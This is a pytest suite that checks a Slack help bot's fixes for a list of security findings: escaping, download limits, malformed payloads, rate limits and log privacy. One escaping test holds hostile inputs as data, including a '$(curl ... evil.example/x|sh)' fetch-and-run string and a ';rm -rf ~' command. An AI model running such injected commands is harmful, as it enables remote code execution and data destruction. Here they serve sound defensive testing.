"""Issue #11 against the running bot: the real HTTP server and engine, the fake Slack, requests signed as Slack
signs them. One test (or more) per numbered finding; the hostile inputs are those of tests/hostile_cases.py."""

from __future__ import annotations

import hashlib
import hmac
import json
import logging
import sys
import threading
import time
import urllib.error
import urllib.parse
import urllib.request
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path

import pytest
from fake_slack import BOT_TOKEN, SIGNING_SECRET, TEAM_ID, FakeSlack
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from slack_harness import OOM_LINE, SOCKET_LOG, Harness, bot_mention, find_buttons

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))
from hostile_cases import MB, NAMED  # noqa: E402

from bot.slack import blocks as bk  # noqa: E402

ACK_LIMIT = 3.0  # Slack's
HEALTH_LIMIT = 1.0


def dm(harness: Harness, channel: str, ts: str, text: str, **extra) -> tuple[int, str, float]:
    return harness.event({"type": "message", "channel_type": "im", "channel": channel, "user": "UALICE", "ts": ts, "text": text, **extra})


def health(harness: Harness) -> float:
    started = time.monotonic()
    with urllib.request.urlopen(f"http://127.0.0.1:{harness.server.port}/healthz", timeout=10) as response:
        assert response.status == 200
        response.read()
    return time.monotonic() - started


@contextmanager
def probing(harness: Harness, every: float = 0.05) -> Iterator[list[float]]:
    """/healthz probed in the background for as long as the block runs; yields the probe times."""
    times: list[float] = []
    stop = threading.Event()

    def loop() -> None:
        while not stop.is_set():
            times.append(health(harness))
            stop.wait(every)

    thread = threading.Thread(target=loop, daemon=True)
    thread.start()
    try:
        yield times
    finally:
        stop.set()
        thread.join(15)


def signed(harness: Harness, body: str | bytes, content_type: str, *, timestamp: str | None = None) -> tuple[int, str, float]:
    """A request signed over exactly these bytes (the harness signs str bodies only)."""
    raw = body.encode("utf-8", "surrogatepass") if isinstance(body, str) else body
    ts = timestamp if timestamp is not None else str(int(time.time()))
    sig = "v0=" + hmac.new(SIGNING_SECRET.encode(), b"v0:" + ts.encode() + b":" + raw, hashlib.sha256).hexdigest()
    request = urllib.request.Request(harness.url, data=raw, method="POST",
                                     headers={"Content-Type": content_type, "X-Slack-Request-Timestamp": ts, "X-Slack-Signature": sig})
    started = time.monotonic()
    try:
        with urllib.request.urlopen(request, timeout=10) as response:
            return response.status, response.read().decode(), time.monotonic() - started
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read().decode("utf-8", "replace"), time.monotonic() - started


def block_actions(actions: list, **extra) -> str:
    payload = {"type": "block_actions", "team": {"id": TEAM_ID}, "user": {"id": "UALICE"}, "api_app_id": "A0TEST",
               "container": {"type": "message", "message_ts": "1.1", "channel_id": "C0GENERAL"}, "channel": {"id": "C0GENERAL"},
               "response_url": "", "trigger_id": "1.2.3", "actions": actions, **extra}
    return urllib.parse.urlencode({"payload": json.dumps(payload)})


def no_listener_errors(caplog) -> None:
    bad = [r.getMessage() for r in caplog.records if r.levelno >= logging.ERROR or r.exc_info or r.exc_text]
    assert not bad, bad


# --- finding 1: one message froze the whole bot -----------------------------------------------------------


def test_named_freezes_are_answered_while_healthz_stays_fast(harness, caplog):
    caplog.set_level(logging.INFO)
    fake = harness.fake
    with probing(harness) as probes:
        for n, name in enumerate(sorted(NAMED)):
            data = NAMED[name]()
            channel = f"D0FREEZE{n}"
            if isinstance(data, bytes):  # the .log of spaces came as a file
                info = fake.add_file(f"F0FREEZE{n}", f"{name}.log", data)
                status, _, took = dm(harness, channel, f"10.{n}", "", subtype="file_share", files=[info])
            else:
                status, _, took = dm(harness, channel, f"10.{n}", data)
            assert status == 200 and took < ACK_LIMIT, (name, status, took)
        for n, name in enumerate(sorted(NAMED)):
            post = fake.wait_for(lambda: fake.posts(f"D0FREEZE{n}"), timeout=60)[0]
            assert "something went wrong" not in post.params["text"], name
    assert probes and max(probes) < HEALTH_LIMIT, f"slowest /healthz {max(probes):.2f}s"
    no_listener_errors(caplog)


# --- finding 2: commands and clicks missed the 3 s ack under load -------------------------------------------


def test_commands_and_clicks_are_acked_under_load_and_nothing_is_lost(harness):
    fake = harness.fake
    paste = OOM_LINE + "\n" + "ERROR x\n" * (MB // 8)  # a megabyte of error lines: the engine's slowest kind
    with probing(harness) as probes:
        senders = [threading.Thread(target=dm, args=(harness, f"D0LOAD{k}", f"20.{k}", paste)) for k in range(10)]
        for thread in senders:
            thread.start()
        deadline = time.monotonic() + 20
        while harness.bot.answers.pending() < 3 and time.monotonic() < deadline:  # the answer queue is backed up
            time.sleep(0.01)
        assert harness.bot.answers.pending() >= 3
        acks: list[float] = []
        for k in range(5):
            status, _, took = harness.command(OOM_LINE, f"load-cmd{k}", user=f"UCMD{k}")
            assert status == 200
            acks.append(took)
        for k in range(5):
            button = {"action_id": bk.ACTION_FEEDBACK_UP, "text": {"type": "plain_text", "text": "up"},
                      "value": json.dumps({"e": "npu-out-of-memory", "f": f"fp{k}", "l": "en"})}
            status, _, took = harness.click(button, f"load-click{k}", user=f"UCLICK{k}")
            assert status == 200
            acks.append(took)
        for thread in senders:
            thread.join(30)
        assert max(acks) < ACK_LIMIT, acks
        for k in range(10):
            fake.wait_for(lambda: fake.posts(f"D0LOAD{k}"), timeout=120)
        for k in range(5):
            fake.wait_for(lambda: fake.responses(f"load-cmd{k}"), timeout=120)
            fake.wait_for(lambda: fake.responses(f"load-click{k}"), timeout=120)
        harness.idle(60)
    assert max(probes) < HEALTH_LIMIT
    for k in range(10):  # none lost, none twice
        posts = fake.posts(f"D0LOAD{k}")
        assert len(posts) == 1 and "npu-out-of-memory" in posts[0].blocks_json()
    for k in range(5):
        assert len(fake.responses(f"load-cmd{k}")) == 1 and len(fake.responses(f"load-click{k}")) == 1


def test_an_answer_that_waited_past_its_budget_reads_only_the_error_lines(make_harness):
    harness = make_harness(answer_budget_seconds=0.001)
    dm(harness, "D0BUDGET", "21.1", "[INFO] starting\n" * 50 + SOCKET_LOG)
    post = harness.fake.wait_for(lambda: harness.fake.posts("D0BUDGET"))[0]
    assert "socket-bind-failed" in post.blocks_json() and "time budget ran out" in post.blocks_json()


# --- finding 3: user-controlled values reached the message unescaped ------------------------------------------


@pytest.mark.parametrize("path", [
    "/&lt;!channel&gt;/models", "/<!channel>/models", "/&lt;!here&gt;", "/&lt;!subteam^S0ABC&gt;/x",
    "/&lt;https://evil.example|click&gt;", "/$(curl${IFS}-s${IFS}https://evil.example/x|sh)", "/a;rm -rf ~",
])
def test_captures_never_ping_link_or_run_anything(harness, path):
    fake = harness.fake
    status, _, _ = harness.command(f"Check_path: {path}/config.json failed", "cmd-esc")
    assert status == 200
    response = fake.wait_for(lambda: fake.responses("cmd-esc"))[0]
    shown = [response.params["text"]] + shown_texts(response.params["blocks"])  # what Slack renders as mrkdwn
    for text in shown:
        for danger in ("<!channel>", "<!here>", "<!subteam", "<https://evil"):
            assert danger not in text, (danger, text[:300])
    commands = [c for text in shown for c in text.split("```")[1::2]] + [response.params["text"].split("Commands:")[-1]]
    for command in commands:  # the user's line may be quoted (escaped); it is never offered to run
        for danger in ("$(curl", "rm -rf", "evil", "channel", "subteam"):
            assert danger not in command, (danger, command)
    assert "check-path-config-json" in json.dumps(response.params["blocks"])
    assert "chmod 640 &lt;model_path&gt;/config.json" in response.params["text"]  # unfilled: shown as <name>


def shown_texts(blocks: list[dict]) -> list[str]:
    """Every mrkdwn text of the blocks (button values are data, never rendered)."""
    out = []
    for block in blocks:
        text = block.get("text")
        if isinstance(text, dict) and text.get("type") == "mrkdwn":
            out.append(text["text"])
        for element in block.get("elements", []):
            if element.get("type") == "mrkdwn":
                out.append(element["text"])
    return out


def test_a_safe_capture_is_still_filled(harness):
    harness.command("Check_path: /data/models/qwen2-7b/config.json failed", "cmd-ok")
    response = harness.fake.wait_for(lambda: harness.fake.responses("cmd-ok"))[0]
    assert "chmod 640 /data/models/qwen2-7b/config.json" in response.params["text"]


# --- findings 4 and 6: downloads -----------------------------------------------------------------------


def test_downloads_go_only_to_slack_or_exactly_the_configured_api_origin(harness):
    fake = harness.fake
    other = FakeSlack().start()  # same host, another port: must never see the token
    try:
        other.add_file("F0OTHER", "other.log", SOCKET_LOG.encode())
        elsewhere = {"id": "F0X1", "name": "a.log", "filetype": "log", "url_private": other.file_url("other.log")}
        local = {"id": "F0X2", "name": "b.log", "filetype": "log", "url_private": "file:///etc/hostname"}
        fake.add_file("F0X3", "c.log", SOCKET_LOG.encode())
        fake.redirect_files["c.log"] = other.file_url("other.log")
        dm(harness, "D0DL", "30.1", "", subtype="file_share", files=[elsewhere, local, fake.file_infos["F0X3"]])
        post = fake.wait_for(lambda: fake.posts("D0DL"))[0]
        assert post.params["text"].count("download host not allowed") == 2
        assert "HTTP 302" in post.params["text"]
        assert other.downloads() == []  # neither the other port nor the redirect target was contacted
        assert all(c.headers.get("authorization") == f"Bearer {BOT_TOKEN}" for c in fake.downloads())
    finally:
        other.stop()


def test_downloads_are_capped_in_bytes_and_in_time(make_harness):
    harness = make_harness(max_download_bytes=2_000_000, download_timeout_seconds=1.5)
    fake = harness.fake
    big = fake.add_file("F0BIG20", "big.log", (OOM_LINE + "\n").encode() + b"x" * 20_000_000)
    slow = fake.add_file("F0DRIP", "drip.log", (SOCKET_LOG + "\n").encode() * 50)
    fake.drip["drip.log"] = 0.01
    started = time.monotonic()
    dm(harness, "D0CAP", "31.1", "", subtype="file_share", files=[big, slow])
    post = fake.wait_for(lambda: fake.posts("D0CAP"), timeout=30)[0]
    assert time.monotonic() - started < 10
    assert "npu-out-of-memory" in post.blocks_json()  # the head of the big file was read
    assert fake.sent_bytes.get("big.log", 0) < 12_000_000  # the bot stopped reading at its cap
    assert "drip.log" in post.params["text"] or "drip.log" in post.blocks_json()


# --- finding 5: lone surrogates and invalid UTF-8 -------------------------------------------------------------


def test_lone_surrogates_in_payloads_are_answered_not_crashed(harness, caplog):
    caplog.set_level(logging.INFO)
    event = {"type": "message", "channel_type": "im", "channel": "D0SURR", "user": "UALICE", "ts": "40.1",
             "text": "\ud800 " + OOM_LINE + " \udfff"}
    body = json.dumps({"type": "event_callback", "team_id": TEAM_ID, "api_app_id": "A0TEST", "event_id": "Ev0SURR",
                       "event": event})  # json.dumps writes the surrogates as \\ud800 escapes, as Slack's JSON can
    status, _, _ = signed(harness, body, "application/json")
    assert status == 200
    post = harness.fake.wait_for(lambda: harness.fake.posts("D0SURR"))[0]
    assert "npu-out-of-memory" in post.blocks_json()
    status, _, _ = signed(harness, "command=%2Fmindie-help&text=%FF%FE+" + urllib.parse.quote(OOM_LINE) + "&user_id=UALICE"
                          "&channel_id=C0GENERAL&response_url=" + urllib.parse.quote(harness.fake.response_url("cmd-bad-utf8")),
                          "application/x-www-form-urlencoded")
    assert status == 200
    assert "npu-out-of-memory" in json.dumps(harness.fake.wait_for(lambda: harness.fake.responses("cmd-bad-utf8"))[0].params)
    harness.idle()
    no_listener_errors(caplog)


# --- finding 7: DEBUG logs carried users' pastes ---------------------------------------------------------------


def test_debug_logs_never_hold_message_text(harness, capsys):
    from bot.logs import setup_logging

    root = logging.getLogger()
    handlers, level = root.handlers[:], root.level
    quiet = {name: logging.getLogger(name).level for name in ("slack_sdk", "slack_bolt", "urllib3")}
    try:
        setup_logging("DEBUG", as_json=True)
        harness.event({"type": "app_mention", "user": "UALICE", "channel": "C0DEBUG", "ts": "50.1",
                       "text": bot_mention("very-private-words " + OOM_LINE)})
        harness.fake.wait_for(lambda: harness.fake.posts("C0DEBUG"))
        harness.idle()
    finally:
        root.handlers[:], root.level = handlers, level
        for name, value in quiet.items():
            logging.getLogger(name).setLevel(value)
    logged = capsys.readouterr().err
    assert '"level": "debug"' in logged  # DEBUG was on, for the bot's own loggers
    assert "very-private-words" not in logged and "NPU out of memory" not in logged


# --- finding 8: rate limits, and no private question in a public escalation ----------------------------------


def test_twenty_clicks_on_ask_a_human_ping_once(harness):
    fake = harness.fake
    harness.event({"type": "app_mention", "user": "UALICE", "channel": "C0HUMAN", "ts": "60.1",
                   "text": bot_mention("what is the best pizza topping in the office canteen")})
    post = fake.wait_for(lambda: fake.posts("C0HUMAN"))[0]
    button = find_buttons(post.blocks)[bk.ACTION_ESCALATE]
    for k in range(20):
        status, _, took = harness.click(button, f"human{k}", user=f"UCLICK{k % 3}", channel="C0HUMAN", message_ts="60.2", thread_ts="60.1")
        assert status == 200 and took < ACK_LIMIT
    harness.idle()
    pings = [c for c in fake.posts("C0HUMAN") if "<!subteam^S0SUPPORT>" in c.params.get("text", "")]
    assert len(pings) == 1
    assert "already asked" in json.dumps([c.params for c in fake.responses()])


def test_escalating_a_private_answer_posts_nothing_of_the_question(harness):
    fake = harness.fake
    secret = "how do I bake the secret-sourdough-recipe at home"
    harness.command(secret, "cmd-private")
    response = fake.wait_for(lambda: fake.responses("cmd-private"))[0]
    button = find_buttons(response.params["blocks"])[bk.ACTION_ESCALATE]
    harness.click(button, "esc-private", channel="C0PRIV", ephemeral=True)
    ping = fake.wait_for(lambda: fake.posts("C0PRIV"))[0]
    assert "<!subteam^S0SUPPORT>" in ping.params["text"]
    assert "secret-sourdough" not in json.dumps(ping.params) and "sourdough" not in json.dumps(ping.params)
    assert "visible only to you" in fake.wait_for(lambda: fake.responses("esc-private"))[0].params["text"]


def test_explicit_requests_are_rate_limited_per_user_and_per_channel(make_harness):
    harness = make_harness(rate_user_per_minute=4.0, rate_channel_per_minute=6.0)
    fake = harness.fake
    for k in range(6):
        status, _, took = harness.command(OOM_LINE, f"rl{k}", user="UFAST")
        assert status == 200 and took < ACK_LIMIT
    harness.idle()
    answered = [k for k in range(6) if any("npu-out-of-memory" in json.dumps(c.params) for c in fake.responses(f"rl{k}"))]
    notes = [k for k in range(6) if any("faster than I can answer" in json.dumps(c.params) for c in fake.responses(f"rl{k}"))]
    assert len(answered) == 2 and len(notes) == 1  # a burst of 2, then one note (not one per request)
    for k in range(6):  # other users share the channel's budget: 6 per minute, burst 3
        harness.command(OOM_LINE, f"rlc{k}", user=f"UOTHER{k}")
    harness.idle()
    answered = [k for k in range(6) if any("npu-out-of-memory" in json.dumps(c.params) for c in fake.responses(f"rlc{k}"))]
    assert len(answered) <= 3


# Finding 9 (the feedback report printed users' escape sequences) is tested in tests/test_cli.py.


# --- findings 10 and 12: what reaches the HTTP endpoint --------------------------------------------------------


def test_unsigned_and_malformed_requests_get_4xx_without_a_traceback(harness, caplog):
    caplog.set_level(logging.DEBUG)
    url = harness.url
    for body, headers in [
        (b"{not json", {"Content-Type": "application/json"}),
        (b"payload=%7Bjunk", {"Content-Type": "application/x-www-form-urlencoded"}),
        (b"\xff\xfe\x00", {"Content-Type": "application/json", "X-Slack-Request-Timestamp": "abc", "X-Slack-Signature": "v0=00"}),
        (b"{}", {"Content-Type": "application/json", "X-Slack-Request-Timestamp": "1e9", "X-Slack-Signature": "v0=00"}),
        (b"{}", {"Content-Type": "application/json", "X-Slack-Request-Timestamp": "-1", "X-Slack-Signature": "v0=00"}),
    ]:
        request = urllib.request.Request(url, data=body, headers=headers, method="POST")
        with pytest.raises(urllib.error.HTTPError) as info:
            urllib.request.urlopen(request, timeout=5)
        assert info.value.code == 401
    for body, ctype in [
        ("{not json", "application/json"), ("[1, 2]", "application/json"), ('"text"', "application/json"),
        ("payload=%7Bjunk", "application/x-www-form-urlencoded"), ("payload=%5B%5D", "application/x-www-form-urlencoded"),
        (json.dumps({"type": "event_callback", "event": []}), "application/json"),
        (json.dumps({"type": "event_callback", "event": {"type": 5}}), "application/json"),
        (block_actions([]), "application/x-www-form-urlencoded"),
        (block_actions(["x"]), "application/x-www-form-urlencoded"),
        ("[" * 5000 + "]" * 5000, "application/json"),
    ]:
        status, _, took = signed(harness, body, ctype)
        assert status == 400 and took < ACK_LIMIT, (body[:60], status)
    logged = "\n".join(r.getMessage() + (r.exc_text or "") for r in caplog.records)
    assert "Traceback" not in logged and "dispatch_failed" not in logged
    assert "event=request_refused" in logged


def test_odd_field_types_in_signed_events_and_actions_never_raise(harness, caplog):
    caplog.set_level(logging.INFO)
    odd_values = [json.dumps({"e": 1, "f": 5, "l": ["en"]}), json.dumps([1]), "not json", json.dumps({"k": {"x": 1}, "q": 7})]
    for n, value in enumerate(odd_values):
        for action_id in (bk.ACTION_FEEDBACK_UP, bk.ACTION_SHARE, bk.ACTION_ESCALATE):
            button = {"action_id": action_id, "text": {"type": "plain_text", "text": "x"}, "value": value}
            status, _, took = harness.click(button, f"odd{n}")
            assert status == 200 and took < ACK_LIMIT
    odd_events = [
        {"type": "message", "channel_type": "im", "channel": "D0ODD", "user": ["x"], "ts": 5, "text": {"a": 1}},
        {"type": "message", "channel_type": "im", "channel": 7, "user": "UALICE", "ts": "70.2", "text": "hi"},
        {"type": "message", "channel_type": "im", "channel": "D0ODD", "user": "UALICE", "ts": "70.3", "text": OOM_LINE, "files": "x"},
        {"type": "app_mention", "channel": "C0ODD", "user": "UALICE", "ts": "70.4", "text": bot_mention(OOM_LINE),
         "files": [1, "x", {"id": 5, "name": ["a"]}], "attachments": "y", "blocks": {"x": 1}},
        {"type": "message", "channel_type": "channel", "channel": "C0ODD", "user": "UALICE", "ts": "70.5", "text": SOCKET_LOG,
         "thread_ts": 1.5, "subtype": None, "bot_id": 3},
    ]
    for event in odd_events:
        status, _, took = harness.event(event)
        assert status == 200 and took < ACK_LIMIT
    harness.idle()
    no_listener_errors(caplog)


_scalars = st.one_of(st.none(), st.booleans(), st.integers(), st.floats(allow_nan=False), st.text(max_size=20))
_values = st.recursive(_scalars, lambda inner: st.one_of(st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=8), inner, max_size=3)), max_leaves=8)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
@given(st.sampled_from(["event", "action"]), st.sampled_from(["user", "channel", "ts", "text", "files", "thread_ts", "value", "container", "actions"]), _values)
def test_any_odd_field_is_answered_200_or_400_fast(harness, kind, field, value):
    if kind == "event":
        event = {"type": "message", "channel_type": "im", "channel": "D0FUZZ", "user": "UALICE", "ts": "80.1", "text": "hello there", field: value}
        status, _, took = harness.event(event)
    else:
        action = {"type": "button", "action_id": bk.ACTION_FEEDBACK_UP, "block_id": "b", "value": json.dumps({"e": "x", "f": "y"})}
        extra: dict = {}
        if field in ("value", "text"):
            action[field] = value
        elif field == "actions":
            extra["actions"] = value
        else:
            extra[field] = value
        body = block_actions([action]) if "actions" not in extra else block_actions(extra.pop("actions"))
        if extra:
            payload = json.loads(urllib.parse.parse_qs(body)["payload"][0])
            payload.update(extra)
            body = urllib.parse.urlencode({"payload": json.dumps(payload)})
        status, _, took = signed(harness, body, "application/x-www-form-urlencoded")
    assert status in (200, 400) and took < ACK_LIMIT


def test_socket_mode_drops_a_malformed_envelope_without_raising(engine, fake_slack, tmp_path, caplog):
    from fake_slack import APP_TOKEN, FakeSocketModeServer
    from slack_harness import make_settings

    from bot.slack.app import SlackBot, SocketHandler

    caplog.set_level(logging.INFO)
    fake_slack.reset()
    ws = FakeSocketModeServer().start()
    fake_slack.ws_url = ws.url
    bot = SlackBot(make_settings(fake_slack, tmp_path), engine)
    handler = SocketHandler(bot.app, APP_TOKEN, ping_interval=30)
    try:
        handler.connect()
        assert ws.connected.wait(10)
        ws.send({"envelope_id": "env-bad", "type": "events_api", "accepts_response_payload": False,
                 "payload": {"type": "event_callback", "event": [], "enterprise": 5, "authorizations": 3}})
        ws.send({"envelope_id": "env-good", "type": "events_api", "accepts_response_payload": False,
                 "payload": {"type": "event_callback", "event_id": "Ev0SOCKOK", "team_id": TEAM_ID, "enterprise": 5,
                             "event": {"type": "app_mention", "user": "UALICE", "channel": "C0SOCKODD", "ts": "90.1",
                                       "text": bot_mention("\ud800" + OOM_LINE)}}})
        post = fake_slack.wait_for(lambda: fake_slack.posts("C0SOCKODD"))[0]
        assert "npu-out-of-memory" in post.blocks_json()
        deadline = time.monotonic() + 10
        while not {"env-bad", "env-good"} <= {a.get("envelope_id") for a in ws.acks} and time.monotonic() < deadline:
            time.sleep(0.02)
        assert {"env-bad", "env-good"} <= {a.get("envelope_id") for a in ws.acks}
    finally:
        handler.close()
        bot.wait_idle(10)
        bot.close()
        bot.feedback.close()
        ws.stop()
        fake_slack.ws_url = None
        fake_slack.reset()
    no_listener_errors(caplog)


# --- with issues #12 and #13 merged: /mindie-help env, claims held by deferred work ---------------------------

ENV_PASTE = "torch                 2.7.0\ntorch_npu             2.5.1.post1\nCANN: 8.1.RC1\n"


def test_the_env_check_escapes_the_paste_in_blocks_and_fallback_text(harness):
    status, body, took = harness.command("env OS: <!channel> <@U0BOSS> Ubuntu 22.04\n" + ENV_PASTE, "cmd-env-esc")
    assert status == 200 and took < ACK_LIMIT
    data = json.loads(body)
    assert "Ubuntu 22.04" in data["text"] and "pip install torch==2.5.1" in data["text"]
    for part in (data["text"], json.dumps(data["blocks"])):
        assert "<!channel>" not in part and "<@U0BOSS>" not in part


def test_a_long_env_paste_is_acked_at_once_and_checked_on_a_worker(harness):
    fake = harness.fake
    hostile = ("a" + " " * 480 + "torch!\n") * 1500  # each line cost the old `re` patterns ~0.2 s
    status, body, took = harness.command("env " + hostile + ENV_PASTE, "cmd-env-long")
    assert status == 200 and took < ACK_LIMIT and not body.strip()
    response = fake.wait_for(lambda: fake.responses("cmd-env-long"), timeout=60)[0]
    assert "torch_npu 2.5.1.post1 is built for torch 2.5.1" in json.dumps(response.params, ensure_ascii=False)


def test_a_retry_while_the_deferred_answer_runs_is_busy_then_dropped(make_harness):
    a, b = make_harness(), make_harness()  # two replicas on one SQLite file
    release = threading.Event()
    answer = a.bot.ask

    def slow_ask(*args, **kwargs):
        release.wait(30)
        return answer(*args, **kwargs)

    a.bot.ask = slow_ask
    event = {"type": "app_mention", "user": "UALICE", "channel": "C0SLOW", "ts": "70.1", "text": bot_mention(OOM_LINE)}
    assert a.event(event, event_id="Ev0SLOW")[0] == 200  # acknowledged; the answer waits on a worker
    time.sleep(0.3)
    # The listener has returned, but the work it deferred holds the claim: the other replica must not answer.
    assert b.event(event, event_id="Ev0SLOW")[0] == 503
    release.set()
    a.fake.wait_for(lambda: a.fake.posts("C0SLOW"))
    a.idle()
    assert b.event(event, event_id="Ev0SLOW")[0] == 200
    b.idle()
    assert len(a.fake.posts("C0SLOW")) == 1
